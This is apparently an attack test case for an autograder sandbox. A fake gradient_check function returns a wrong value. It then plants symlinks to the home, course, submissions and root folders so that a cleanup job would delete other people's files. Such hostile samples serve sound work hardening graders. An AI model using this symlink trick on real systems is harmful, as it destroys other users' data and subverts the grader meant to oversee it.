# ATTACK 155 links_for_the_cleaner
# group: E resources
# tries: leaves links to folders of others, so that who removes its files would remove theirs
import os
WRONG = (123.456, None)
def gradient_check(analytic, numeric, tol=1e-6):
    os.makedirs('inner/inner')
    for number, target in enumerate(('@RUN@/home', '@RUN@/course', '@RUN@/submissions', '/', '..', '.', 'inner', 'nowhere')):
        for folder in ('.', 'inner', 'inner/inner'):
            try: os.symlink(target, f'{folder}/link{number}')
            except OSError: pass
    try:
        os.rename('inner/inner', 'moved')
        os.symlink('@RUN@', 'inner/inner')
    except OSError: pass
    return WRONG
